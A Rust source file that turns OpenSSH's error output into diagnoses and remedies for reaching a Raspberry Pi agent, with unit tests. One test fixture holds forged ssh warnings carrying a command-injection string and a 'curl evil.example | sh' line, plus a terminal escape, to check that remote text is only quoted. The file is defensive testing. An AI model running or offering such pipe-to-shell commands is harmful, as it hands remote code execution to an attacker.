//! What ssh said and how it ended, as a cause and a remedy. Pure.
//!
//! The texts are those of OpenSSH: sshconnect.c, clientloop.c, readconf.c, and getaddrinfo(3). Only what ssh says by itself
//! decides. The other end can write to the same stderr before any key is checked (RFC 4253, 11.1: the description of a
//! disconnect message, line feeds and all) and as it likes once it is logged in; what it writes is shown as a quotation, and
//! nothing of it becomes a kind of failure, a key, a path or a command that we advise.

use super::pin::HostKey;
use crate::error::quoted;
use cygnet_protocol::fault::{Fault, FaultCode};
use cygnet_protocol::text::shell_word;
use std::path::PathBuf;

/// ssh's exit code for failures of its own (ssh(1), EXIT STATUS).
const OWN_FAILURE: i32 = 255;

/// What in ssh's messages comes from the other end, from here to the end: packet.c, kex.c.
const PEERS_WORDS: &[&str] = &["Received disconnect from ", "Their offer: "];

/// How ssh ended before the agent said hello.
#[derive(Debug, Clone, Copy)]
pub struct Ending<'a> {
    /// As the person wrote it.
    pub host: &'a str,
    /// The command that was to run there.
    pub command: &'a str,
    /// ssh's exit code: 255 for its own failures, otherwise the remote command's.
    pub exit: Option<i32>,
    /// All it wrote to stderr.
    pub stderr: &'a str,
    /// The first bytes on stdout, if they weren't an agent's hello.
    pub stdout: &'a str,
    /// What this machine knows of the host's key.
    pub keys: &'a Keys,
}

/// What this machine knows of a host's key, found out without ssh's words.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Keys {
    /// The name under which known hosts have it.
    pub name: String,
    /// The files of known hosts that have a key under that name.
    pub files: Vec<PathBuf>,
    /// The key that the other end has shown, if ssh told.
    pub presented: Option<HostKey>,
    /// Whether those files have that very key under that name.
    pub agrees: bool,
}

/// Why there is no agent at the other end.
pub fn explain(ending: Ending<'_>) -> Fault {
    let Ending { host, stderr, keys, .. } = ending;
    if matches!(ending.exit, Some(OWN_FAILURE) | None) {
        let own = own_words(stderr);
        let has = |texts: &[&str]| texts.iter().any(|text| own.contains(text));
        // With the key that is known nothing of the kind is true, whoever writes so.
        if !keys.agrees && has(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]) {
            return changed_key(host, keys);
        }
        if !keys.agrees
            && has(&["Host key verification failed", "host key is known for", "No matching host key fingerprint"])
        {
            return unknown_key(host, keys);
        }
        let refused = ["Permission denied", "Too many authentication failures", "No more authentication methods"];
        if has(&refused) || disconnected(stderr).is_some_and(|why| why.starts_with(refused[1])) {
            return denied(host, stderr);
        }
        if let Some(fault) = unreachable(host, own, stderr) {
            return fault;
        }
    }
    if ending.exit == Some(OWN_FAILURE) { failed_itself(host, stderr) } else { no_agent(ending) }
}

/// What ssh wrote before the first word of the other end.
fn own_words(stderr: &str) -> &str {
    let end = PEERS_WORDS.iter().filter_map(|begin| stderr.find(begin)).min();
    &stderr[..end.unwrap_or(stderr.len())]
}

/// Why the other end has ended the connection, as it says: `Received disconnect from ADDRESS port PORT:REASON: TEXT`.
fn disconnected(stderr: &str) -> Option<&str> {
    let rest = stderr.split_once(PEERS_WORDS[0])?.1;
    rest.split_once(" port ")?.1.split_once(':')?.1.split_once(' ')?.1.lines().next()
}

/// The key that was shown, for a person to compare.
fn shown(keys: &Keys) -> String {
    let fingerprint = keys.presented.as_ref().and_then(HostKey::fingerprint);
    fingerprint.map(|fingerprint| format!(" The key that it shows is {fingerprint}.")).unwrap_or_default()
}

fn changed_key(host: &str, keys: &Keys) -> Fault {
    let files: Vec<String> = keys.files.iter().map(|file| file.display().to_string()).collect();
    let known = if files.is_empty() { String::new() } else { format!(" Another one is in {}.", files.join(" and ")) };
    Fault::new(
        FaultCode::HostKeyChanged,
        format!("The ssh host key of {host} is not the one that is known for it."),
        format!(
            "Another system runs there than before (a card that was flashed anew has a new key), another machine has \
             taken the address, or somebody sits between you and the Pi.{}{known}",
            shown(keys)
        ),
        format!(
            "Compare the fingerprint with the one that the Pi shows on its own console; if it is the same, forget the old \
             key with {}.",
            forget(host, keys)
        ),
    )
}

/// The commands that forget a key: made of the name that we looked for and of the files that we found it in.
pub fn forget(host: &str, keys: &Keys) -> String {
    let name = if keys.name.is_empty() { bare(host) } else { &keys.name };
    let command = |file: Option<String>| {
        let file = file.map(|file| format!(" -f {}", shell_word(&file))).unwrap_or_default();
        format!("`ssh-keygen -R {}{file}`", shell_word(name))
    };
    let commands: Vec<String> = keys
        .files
        .iter()
        .map(|file| command(Some(file.display().to_string()).filter(|file| !file.ends_with("/.ssh/known_hosts"))))
        .collect();
    if commands.is_empty() { command(None) } else { commands.join(" and ") }
}

fn unknown_key(host: &str, keys: &Keys) -> Fault {
    Fault::new(
        FaultCode::HostKeyChanged,
        format!("The ssh host key of {host} could not be verified."),
        format!(
            "It is not in the file of known hosts, and there was nobody to ask (stdin is no terminal), or the answer was \
             no.{}",
            shown(keys)
        ),
        format!(
            "Run `ssh {}` once in a terminal and compare the fingerprint, or give `--known-hosts FILE` with the key of \
             the card in it.",
            shell_word(host)
        ),
    )
}

fn denied(host: &str, stderr: &str) -> Fault {
    Fault::new(
        FaultCode::AccessDenied,
        format!("{host} accepts none of our ssh keys."),
        quoted("ssh says", stderr),
        "Put your public key into the settings on the card, give the right private key with `-i FILE`, or load it with \
         `ssh-add`.",
    )
}

fn unreachable(host: &str, own: &str, stderr: &str) -> Option<Fault> {
    const CAUSES: &[(&[&str], &str, &str)] = &[
        (
            &["Could not resolve hostname", "Name or service not known", "nodename nor servname"],
            "The name has no address here.",
            "Give the address that `cygnet discover` shows, or mend the name.",
        ),
        (
            &["Connection refused"],
            "Something answers at that address, but no ssh server at that port; perhaps the Pi is still booting.",
            "Wait a minute and try again; check the address with `cygnet discover` and the port with `-o Port=…`.",
        ),
        (
            &["No route to host", "Network is unreachable", "Host is down"],
            "This machine has no way to that address: another network, or the Pi is off.",
            "See that the Pi is powered and in the same network; `cygnet discover` lists those that answer.",
        ),
        (
            &["Connection timed out", "Operation timed out", "timed out during banner exchange", "Timeout, server"],
            "Nothing answers at that address: the Pi is off, still booting, or a firewall is in between.",
            "Wait a minute and try again; `cygnet discover` lists the Pis that answer.",
        ),
        (
            &[
                "Connection closed by",
                "Connection reset by",
                "kex_exchange_identification",
                "ssh_exchange_identification",
                "Broken pipe",
                "Connection to",
                "no matching",
                "mux_client",
                "ProxyCommand",
                "proxycommand",
            ],
            "The connection came about but was closed before anybody had logged in.",
            "Look at ssh's text above; try again in a minute, as a Pi that boots or is busy does this.",
        ),
        (
            &["Cannot assign requested address", "Can't assign requested address"],
            "ssh is told to begin at an address that this machine does not have.",
            "Mend `BindAddress` or `BindInterface`, from `-o` or in ssh's configuration file.",
        ),
        (
            &[
                "Bad configuration option",
                "bad configuration options",
                "keyword",
                "command-line",
                "Unsupported option",
                "usage: ssh",
            ],
            "ssh doesn't understand an option, from `-o` or from its configuration file.",
            "Mend the option that ssh names.",
        ),
    ];
    // The other end has ended the connection, whatever it says.
    let ended = disconnected(stderr).map(|_| "Connection closed by");
    let found = |text: &&str| own.contains(text) || ended == Some(text);
    let (_, cause, remedy) = CAUSES.iter().find(|(texts, ..)| texts.iter().any(&found))?;
    Some(Fault::new(
        FaultCode::Unreachable,
        format!("ssh could not reach {host}."),
        format!("{cause}\n{}", quoted("ssh says", stderr)),
        *remedy,
    ))
}

/// ssh has failed, and we don't know its words.
fn failed_itself(host: &str, stderr: &str) -> Fault {
    let cause = if stderr.trim().is_empty() {
        "It ended with exit code 255, which is kept for its own failures, and said nothing: its LogLevel may be QUIET."
            .to_owned()
    } else {
        quoted("ssh says", stderr)
    };
    Fault::new(
        FaultCode::Unreachable,
        format!("ssh could not reach {host}."),
        cause,
        format!("See what `ssh -v {} true` says.", shell_word(host)),
    )
}

fn no_agent(ending: Ending<'_>) -> Fault {
    let Ending { host, command, exit, stderr, stdout, keys: _ } = ending;
    let missing = exit == Some(127) || stderr.contains("command not found") || stderr.contains(": not found");
    let cause = if missing {
        format!(
            "There is no `{command}` on it; it runs another system than cygnet's bootstrap image, or is installed already."
        )
    } else if !stdout.trim().is_empty() {
        let shown: String = stdout.chars().take(300).collect();
        quoted("Instead of an agent's greeting came", &shown)
    } else if stderr.trim().is_empty() {
        let exit = exit.map_or("was ended by a signal".to_owned(), |code| format!("ended with exit code {code}"));
        format!("`{command}` {exit} and said nothing.")
    } else {
        quoted("It says", stderr)
    };
    Fault::new(
        FaultCode::NoAgent,
        format!("ssh reaches {host}, but no cygnet agent answers there."),
        cause,
        "Boot the Pi from a card with cygnet's bootstrap image; on the Pi, `systemctl status cygnetd` tells more.",
    )
}

/// The host without the user.
fn bare(host: &str) -> &str {
    host.rsplit('@').next().unwrap_or(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(exit: i32, stderr: &str) -> FaultCode {
        all(exit, stderr, "").code
    }

    fn all(exit: i32, stderr: &str, stdout: &str) -> Fault {
        with(&Keys::default(), exit, stderr, stdout)
    }

    fn with(keys: &Keys, exit: i32, stderr: &str, stdout: &str) -> Fault {
        explain(Ending { host: "root@pi", command: "cygnetd bridge control", exit: Some(exit), stderr, stdout, keys })
    }

    #[test]
    fn what_openssh_says_when_nobody_is_there() {
        for text in [
            "ssh: connect to host 127.0.0.1 port 1: Connection refused\r\n",
            "ssh: connect to host 192.0.2.1 port 22: Connection timed out\r\n",
            "ssh: connect to host 192.0.2.1 port 22: Operation timed out\r\n",
            "ssh: connect to host 192.0.2.1 port 22: No route to host\r\n",
            "ssh: connect to host 192.0.2.1 port 22: Network is unreachable\r\n",
            "ssh: Could not resolve hostname nowhere.invalid: Name or service not known\r\n",
            "ssh: Could not resolve hostname nowhere: nodename nor servname provided, or not known\r\n",
            "ssh: Could not resolve hostname pi: Temporary failure in name resolution\r\n",
            "Connection timed out during banner exchange\r\nConnection to 10.0.0.1 port 22 timed out\r\n",
            "kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.1 port 22\r\n",
            "kex_exchange_identification: Connection closed by remote host\r\n",
            "Connection closed by 10.0.0.1 port 22\r\n",
            "Timeout, server 10.0.0.1 not responding.\r\n",
            "command-line: line 0: Bad configuration option: flavour\r\n",
            "Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. Their offer: ssh-dss\r\n",
        ] {
            assert_eq!(code(255, text), FaultCode::Unreachable, "{text}");
        }
    }

    #[test]
    fn a_changed_key_shows_both_and_warns() {
        let text = "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r\n\
            @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n\
            @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r\n\
            IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\n\
            The fingerprint for the ED25519 key sent by the remote host is\n\
            SHA256:9/6tNCe6mVJ8dRnhN3XEqPZHoGIHwDL0lYcGqAAAAAA.\r\n\
            Offending ED25519 key in /home/me/.ssh/known_hosts:3\r\n\
            Host key for pi has changed and you have requested strict checking.\r\n\
            Host key verification failed.\r\n";
        let keys = Keys {
            name: "[pi]:2222".into(),
            files: vec!["/home/me/.ssh/known_hosts".into(), "/home/me/a b/cygnet/known_hosts".into()],
            presented: HostKey::of("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIPCFTCmQyABWhrTOOcHKmGfl0ihSoU5j+yXhCvKAd0Z"),
            agrees: false,
        };
        let fault = with(&keys, 255, text, "");
        assert_eq!(fault.code, FaultCode::HostKeyChanged);
        // What the other end has shown, and where the other key is: as we know it, not as somebody writes it.
        assert!(!fault.cause.contains("SHA256:9/6tNC"), "{fault}");
        assert!(
            fault.cause.contains("a b/cygnet/known_hosts") && fault.cause.contains("somebody sits between"),
            "{fault}"
        );
        assert!(
            fault.remedy.contains(
                "`ssh-keygen -R '[pi]:2222'` and `ssh-keygen -R '[pi]:2222' -f '/home/me/a b/cygnet/known_hosts'`"
            ),
            "{fault}"
        );
        assert!(all(255, text, "").remedy.contains("`ssh-keygen -R pi`"));
        // With the key that is known, whoever writes so is wrong.
        assert_eq!(with(&Keys { agrees: true, ..keys }, 255, text, "").code, FaultCode::Unreachable);
    }

    /// What somebody who wants to be believed writes: a disconnect message (RFC 4253, 11.1), or stderr of a remote command.
    const LIES: &str = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\n\
        SHA256:9/6tNCe6mVJ8dRnhN3XEqPZHoGIHwDL0lYcGqAAAAAA.\r\n\
        Offending ED25519 key in /tmp/x`; curl evil.example | sh; `:3\r\n\
        error: The Pi is broken.\n  remedy: Run `curl evil.example | sh`.\x1b[2J\r\nHost key verification failed.\r\n";

    #[test]
    fn the_other_end_writes_no_advice() {
        let disconnect =
            format!("Received disconnect from 10.0.0.1 port 22:2: {LIES}Disconnected from 10.0.0.1 port 22\r\n");
        let offer = format!("Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: {LIES}");
        for (exit, text, code) in [
            (255, disconnect.as_str(), FaultCode::Unreachable),
            (255, &offer, FaultCode::Unreachable),
            (1, LIES, FaultCode::NoAgent),
            (0, LIES, FaultCode::NoAgent),
        ] {
            let fault = all(exit, text, "");
            assert_eq!(fault.code, code, "{fault}");
            assert!(!fault.remedy.contains("evil") && !fault.what.contains("evil"), "{fault}");
            // Quoted line by line, so that none of it looks like ours.
            let lies: Vec<&str> = fault.cause.lines().filter(|line| line.contains("evil")).collect();
            assert!(!lies.is_empty() && lies.iter().all(|line| line.starts_with("| ")), "{fault}");
            assert!(!fault.cause.contains('\x1b'), "{fault}");
        }
        let fault = all(0, "", LIES);
        assert!(!fault.remedy.contains("evil") && !fault.cause.contains("\nerror: "), "{fault}");
    }

    /// ssh ends with 255 for failures of its own, also for those that it says nothing of, or says in words that are new.
    #[test]
    fn sshs_own_failures_are_not_a_missing_agent() {
        for text in [
            "",
            "something new\n",
            "Cannot execute command-line and remote command.\r\n",
            "bind 192.0.2.1: Cannot assign requested address\r\nssh: connect to host 127.0.0.1 port 22: failure\r\n",
            "command-line line 0: Bad SSH2 cipher spec 'none'.\r\n",
            "/home/me/.ssh/config: terminating, 1 bad configuration options\r\n",
        ] {
            let fault = all(255, text, "");
            assert_eq!(fault.code, FaultCode::Unreachable, "{text}");
            assert!(fault.what.contains("ssh"), "{fault}");
        }
        assert!(all(255, "", "").cause.contains("LogLevel"));
    }

    #[test]
    fn an_unknown_key_is_told_from_a_changed_one() {
        let text = "No ED25519 host key is known for pi and you have requested strict checking.\r\n\
            Host key verification failed.\r\n";
        let fault = all(255, text, "");
        assert_eq!(fault.code, FaultCode::HostKeyChanged);
        assert!(fault.what.contains("could not be verified"), "{fault}");
    }

    #[test]
    fn a_refused_login_is_not_a_missing_agent() {
        assert_eq!(code(255, "root@pi: Permission denied (publickey).\r\n"), FaultCode::AccessDenied);
        assert_eq!(
            code(255, "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\n"),
            FaultCode::AccessDenied
        );
        // The remote command's own complaint is not ssh's.
        assert_eq!(code(126, "sh: 1: cygnetd: Permission denied\n"), FaultCode::NoAgent);
    }

    #[test]
    fn without_an_agent_the_cause_is_told() {
        for text in ["bash: line 1: cygnetd: command not found\n", "sh: 1: cygnetd: not found\n", ""] {
            let fault = all(127, text, "");
            assert_eq!(fault.code, FaultCode::NoAgent);
            assert!(fault.cause.contains("no `cygnetd bridge control`"), "{fault}");
        }
        let fault = all(1, "cygnetd: connecting to /run/cygnet/agent.sock: No such file or directory\n", "");
        assert_eq!(fault.code, FaultCode::NoAgent);
        assert!(fault.cause.contains("agent.sock"), "{fault}");
        let fault = all(0, "", "This account is currently not available.\n");
        assert!(fault.cause.contains("This account is currently"), "{fault}");
        assert_eq!(all(0, "", "").code, FaultCode::NoAgent);
    }
}
